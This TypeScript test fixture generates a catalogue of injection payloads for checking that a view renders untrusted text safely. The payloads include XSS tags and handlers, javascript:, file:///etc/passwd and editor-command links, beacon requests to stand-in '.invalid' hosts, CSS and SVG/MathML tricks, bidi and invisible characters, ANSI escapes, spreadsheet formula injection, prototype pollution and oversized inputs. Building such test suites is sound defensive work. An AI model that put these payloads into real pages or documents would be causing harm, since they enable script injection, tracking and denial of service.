/** A text that does something where it is taken for more than text: sets `globalThis.ran`, or asks a beacon. */
export interface HostileText {
  readonly kind: string;
  readonly text: string;
}

type Make = (number: number) => string;

const run: Make = number => `globalThis.ran=${String(number)}`;
const beacon: Make = number => `http://beacon-${String(number)}.invalid/x`;

const handlerTags = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'iframe',
  'marquee',
  'select autofocus',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover'];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,<script>',
  'command:workbench.action.terminal.new?',
  'vscode://vscode.git/clone?url=',
  'file:///etc/passwd?',
];
const bidi = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'];
const unseen = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u{e0041}'];
const ansi = ['[2J', '[31m', ']0;title\u0007', ']8;;http://beacon.invalid\u0007', '[6n', 'c', '[?1049h'];

const makers: Readonly<Record<string, readonly Make[]>> = {
  script: [
    n => `<script>${run(n)}</script>`,
    n => `<ScRiPt>${run(n)}</sCrIpT>`,
    n => `<script src="${beacon(n)}"></script>`,
    n => `<script type=module>import("${beacon(n)}")</script>`,
    n => `</script><script>${run(n)}</script>`,
    n => `</textarea></title></style><script>${run(n)}</script>`,
    n => `<!--><script>${run(n)}</script-->`,
    n => `<![CDATA[<script>${run(n)}</script>]]>`,
    n => `<noscript><p title="</noscript><script>${run(n)}</script>"></noscript>`,
    n => `<template><script>${run(n)}</script></template>`,
    n => `<scr<script>ipt>${run(n)}</scr</script>ipt>`,
    n => `\`\`\`html\n</code></pre><script>${run(n)}</script>\n\`\`\``,
  ],
  'event handler': handlerTags.flatMap(tag =>
    handlers.map(
      (handler): Make =>
        n =>
          `<${tag} ${handler}="${run(n)}">`,
    ),
  ),
  'attribute break': [
    n => `"><img src=x onerror="${run(n)}">`,
    n => `'><img src=x onerror='${run(n)}'>`,
    n => `\` onload=\`${run(n)}`,
    n => `" autofocus onfocus="${run(n)}" x="`,
    n => `"style="animation-name:x" onanimationstart="${run(n)}`,
  ],
  'markdown link': schemes.flatMap(scheme => [
    (n: number) => `[click](${scheme}${run(n)})`,
    (n: number) => `[click](<${scheme}${run(n)}> "title")`,
  ]),
  'html link': schemes.map(
    (scheme): Make =>
      n =>
        `<a href="${scheme}${run(n)}">click</a>`,
  ),
  'reference link': schemes.slice(0, 5).map(
    (scheme): Make =>
      n =>
        `[a][${n}]\n\n[${n}]: ${scheme}${run(n)}`,
  ),
  autolink: [n => `<javascript:${run(n)}>`, n => `<${beacon(n)}>`, n => beacon(n)],
  beacon: [
    n => `![x](${beacon(n)})`,
    n => `![x][b${n}]\n\n[b${n}]: ${beacon(n)}`,
    n => `[![x](${beacon(n)})](${beacon(n)})`,
    n => `<img src="${beacon(n)}">`,
    n => `<img srcset="${beacon(n)} 2x">`,
    n => `<picture><source srcset="${beacon(n)}"><img></picture>`,
    n => `<link rel=stylesheet href="${beacon(n)}">`,
    n => `<link rel=prefetch href="${beacon(n)}">`,
    n => `<link rel=dns-prefetch href="//beacon-${n}.invalid">`,
    n => `<meta http-equiv=refresh content="0;url=${beacon(n)}">`,
    n => `<base href="${beacon(n)}">`,
    n => `<object data="${beacon(n)}"></object>`,
    n => `<embed src="${beacon(n)}">`,
    n => `<iframe src="${beacon(n)}"></iframe>`,
    n => `<iframe srcdoc="<script>${run(n)}</script>"></iframe>`,
    n => `<video poster="${beacon(n)}"></video>`,
    n => `<form action="${beacon(n)}"><input type=submit autofocus></form>`,
    n => `<a ping="${beacon(n)}" href="#">x</a>`,
  ],
  svg: [
    n => `<svg><script>${run(n)}</script></svg>`,
    n => `<svg><image href="${beacon(n)}"/></svg>`,
    n => `<svg><use href="${beacon(n)}#x"/></svg>`,
    n => `<svg><animate onbegin="${run(n)}" attributeName=x dur=1s></svg>`,
    n => `<svg><a xlink:href="javascript:${run(n)}"><text y=20>x</text></a></svg>`,
    n => `<svg><foreignObject><img src=x onerror="${run(n)}"></foreignObject></svg>`,
    n => `<svg><style>@import "${beacon(n)}";</style></svg>`,
    n => `<svg></p><style><a id="</style><img src=x onerror=${run(n)}>">`,
  ],
  mathml: [
    n => `<math><mtext><img src=x onerror="${run(n)}"></mtext></math>`,
    n => `<math href="javascript:${run(n)}">x</math>`,
    n => `<math><maction actiontype="statusline#${beacon(n)}">x</maction></math>`,
    n =>
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run(n)}></style></mglyph></form>`,
    n => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run(n)}></annotation-xml></math>`,
  ],
  css: [
    n => `<style>body{background:url(${beacon(n)})}</style>`,
    n => `<style>@import url(${beacon(n)});</style>`,
    n => `<style>@font-face{font-family:x;src:url(${beacon(n)})}*{font-family:x}</style>`,
    () => `<style>*{display:none!important}</style>`,
    n => `<div style="background:url(${beacon(n)})">x</div>`,
    () => `<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>`,
    n => `<div style="width:expression(${run(n)})">x</div>`,
    n => `<p class="editor" id="root">${run(n)}</p>`,
  ],
  macro: [
    n => `$\\href{javascript:${run(n)}}{x}$`,
    n => `$$\\includegraphics{${beacon(n)}}$$`,
    n => `$\\htmlData{x=${run(n)}}{x}$`,
    () => `$\\def\\a{\\a\\a}\\a$`,
    n => `$\\url{javascript:${run(n)}}$`,
    () => `$\\rule{99999em}{99999em}$`,
  ],
  template: [
    n => `{{constructor.constructor('${run(n)}')()}}`,
    n => `\${${run(n)}}`,
    n => `<%= ${run(n)} %>`,
    n => `#{${run(n)}}`,
    n => `__proto__[ran]=${n}`,
    n => `{"__proto__":{"ran":${n}}}`,
    n => `{"constructor":{"prototype":{"ran":${n}}}}`,
  ],
  bidi: bidi.map(
    (mark): Make =>
      n =>
        `if (isAdmin${mark} /* ${n} */) {\u2069\u202c`,
  ),
  unseen: unseen.map(
    (mark): Make =>
      n =>
        `pass${mark}word${mark.repeat(40)} ${n}`,
  ),
  ansi: ansi.map(
    (code): Make =>
      n =>
        `\u001b${code} ${n}`,
  ),
  formula: ['=HYPERLINK("', '+cmd|', '-2+3+cmd|', '@SUM(', '\t=1+', '\r=1+'].map(
    (start): Make =>
      n =>
        `${start}${beacon(n)}"`,
  ),
  huge: [
    () => '<div>'.repeat(3000),
    () => '['.repeat(3000),
    () => '> '.repeat(800) + 'x',
    () => '*'.repeat(4000),
    () => '`'.repeat(3001) + 'x',
    () => `${'a'.repeat(40)}!`,
    () => 'ﷺ'.repeat(500),
    () => `Z${'\u0300'.repeat(3000)}`,
    () => '| a '.repeat(400) + '|\n' + '| - '.repeat(400) + '|',
  ],
};

/** Over 200 texts that no view may take for anything but text; each is another one. */
export const hostileTexts: readonly HostileText[] = Object.entries(makers)
  .flatMap(([kind, kinds]) => kinds.map(make => ({ kind, make })))
  .map(({ kind, make }, index) => ({ kind, text: make(index + 1) }));
